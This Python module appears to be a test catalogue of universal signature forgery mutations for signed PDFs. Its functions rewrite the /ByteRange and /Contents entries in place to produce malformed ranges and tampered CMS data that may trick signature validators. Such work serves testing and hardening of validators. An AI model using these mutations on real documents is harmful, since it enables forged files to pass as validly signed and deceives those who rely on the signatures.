"""Range and contents of a signature mangled (universal signature forgery, USF)."""

import re
from collections.abc import Callable

from asn1crypto import cms

Attack = Callable[[bytes], bytes]


def range_at(pdf: bytes) -> tuple[int, int]:
    """Return where the array of the last /ByteRange stands."""
    return list(re.finditer(rb"/ByteRange (\[[^\]]*\]) *", pdf))[-1].span()


def numbers(pdf: bytes) -> list[int]:
    start, end = range_at(pdf)
    return [int(one) for one in re.findall(rb"-?\d+", pdf[start:end])]


def contents_at(pdf: bytes) -> tuple[int, int]:
    """Return where the last /Contents stands, with its brackets."""
    return list(re.finditer(rb"/Contents (<[0-9a-fA-F]*>)", pdf))[-1].span(1)


def with_range(text: Callable[[int, int, int, int], bytes] | bytes) -> Attack:
    """Write another range in the room of the last one; the offsets of all else stay."""

    def attack(pdf: bytes) -> bytes:
        start, end = range_at(pdf)
        words = text if isinstance(text, bytes) else text(*numbers(pdf))
        entry = b"/ByteRange " + words
        assert len(entry) <= end - start
        return pdf[:start] + entry.ljust(end - start) + pdf[end:]

    return attack


def with_contents(make: Callable[[bytes], bytes]) -> Attack:
    """Write other contents (brackets included) in the room of the last ones."""

    def attack(pdf: bytes) -> bytes:
        start, end = contents_at(pdf)
        words = make(pdf[start:end])
        assert len(words) <= end - start, len(words)
        return pdf[:start] + words.ljust(end - start) + pdf[end:]

    return attack


def used(contents: bytes) -> bytes:
    """Return the digits of the CMS without the zeros behind it."""
    data = bytes.fromhex(contents.strip(b"<>").decode())
    return cms.ContentInfo.load(data).dump().hex().encode()


def second_cms(contents: bytes) -> bytes:
    digits = used(contents)
    return b"<" + (digits * 2).ljust(len(contents) - 2, b"0") + b">"


def swapped_first(contents: bytes) -> bytes:
    """Put an empty sequence before the CMS."""
    return b"<" + (b"3000" + used(contents)).ljust(len(contents) - 2, b"0") + b">"


def marked_padding(contents: bytes) -> bytes:
    return contents[:-9] + b"DEADBEEF" + contents[-1:]


def odd(contents: bytes) -> bytes:
    return b"<" + used(contents)[:-1] + b">"


def split_by_comment(contents: bytes) -> bytes:
    digits = used(contents)
    return b"<" + digits[:200] + b"%AA\n" + digits[200:] + b">"


def renamed(key: bytes, other: bytes) -> Attack:
    def attack(pdf: bytes) -> bytes:
        at = pdf.rindex(key)
        return pdf[:at] + other + pdf[at + len(key) :]

    return attack


def literal(contents: bytes) -> bytes:
    """Write the CMS as a string in parentheses with octal escapes, as far as there is room."""
    data = bytes.fromhex(used(contents).decode())
    return b"(" + b"".join(b"\\%03o" % one for one in data) + b")"


def past_end(a: int, b: int, c: int, d: int) -> bytes:
    return b"[%d %d %d %d]" % (a, b, c, d + 1000)


USF: dict[str, Attack] = {
    "range null": with_range(b"null"),
    "range []": with_range(b"[]"),
    "range of zeros": with_range(b"[0 0 0 0]"),
    "range of one zero": with_range(b"[0]"),
    "range negative": with_range(lambda a, b, c, d: b"[%d -%d %d %d]" % (a, b, c, d)),
    "range with a negative end": with_range(lambda a, b, c, d: b"[%d %d %d -%d]" % (a, b, c, d)),
    "range from a negative start": with_range(lambda a, b, c, d: b"[-%d %d %d %d]" % (b, b, c, d)),
    "range halved": with_range(lambda a, b, c, d: b"[%d %d]" % (a, b)),
    "range of three": with_range(lambda a, b, c, d: b"[%d %d %d]" % (a, b, c)),
    "range of five": with_range(lambda a, b, c, d: b"[%d %d %d %d 0]" % (a, b, c, d)),
    "range of six": with_range(lambda a, b, c, d: b"[%d %d %d %d %d 0]" % (a, b, c, d, c + d)),
    "range overlapping": with_range(lambda a, b, c, d: b"[0 %d 100 %d]" % (b, c + d - 100)),
    "range past the end": with_range(past_end),
    "range of all": with_range(lambda a, b, c, d: b"[0 %d %d 0]" % (c + d, c + d)),
    "range of nothing behind": with_range(lambda a, b, c, d: b"[0 %d %d 0]" % (b, c)),
    "range from the second byte": with_range(lambda a, b, c, d: b"[1 %d %d %d]" % (b - 1, c, d)),
    "range of strings": with_range(lambda a, b, c, d: b"[(0) (%d) (%d) (%d)]" % (b, c, d)),
    "range of names": with_range(lambda a, b, c, d: b"[/0 /%d /%d /%d]" % (b, c, d)),
    "range of fractions": with_range(lambda a, b, c, d: b"[0.0 %d.5 %d %d]" % (b, c, d)),
    "range of nulls": with_range(b"[null null null null]"),
    "range a number": with_range(b"0"),
    "range a dictionary": with_range(b"<< /A 0 >>"),
    "range in one array more": with_range(lambda a, b, c, d: b"[[%d %d %d %d]]" % (a, b, c, d)),
    "range elsewhere": with_range(b"4 0 R"),
    "range at itself": with_range(b"9999 0 R"),
    "range gone": renamed(b"/ByteRange", b"/ByteRangs"),
    "contents of zeros": with_contents(lambda old: b"<" + b"0" * (len(old) - 2) + b">"),
    "contents empty": with_contents(lambda _: b"<>"),
    "contents 00": with_contents(lambda _: b"<00>"),
    "contents null": with_contents(lambda _: b"null"),
    "contents odd": with_contents(odd),
    "contents cut": with_contents(lambda old: b"<" + used(old)[:400] + b">"),
    "contents broken by a comment": with_contents(split_by_comment),
    "contents a number": with_contents(lambda _: b"0"),
    "contents elsewhere": with_contents(lambda _: b"4 0 R"),
    "contents twice": with_contents(second_cms),
    "contents behind an empty sequence": with_contents(swapped_first),
    "contents shorter than their room": with_contents(lambda old: b"<" + used(old) + b">"),
    "contents with marks in the padding": with_contents(marked_padding),
    "contents gone": renamed(b"/Contents <", b"/Contentz <"),
}
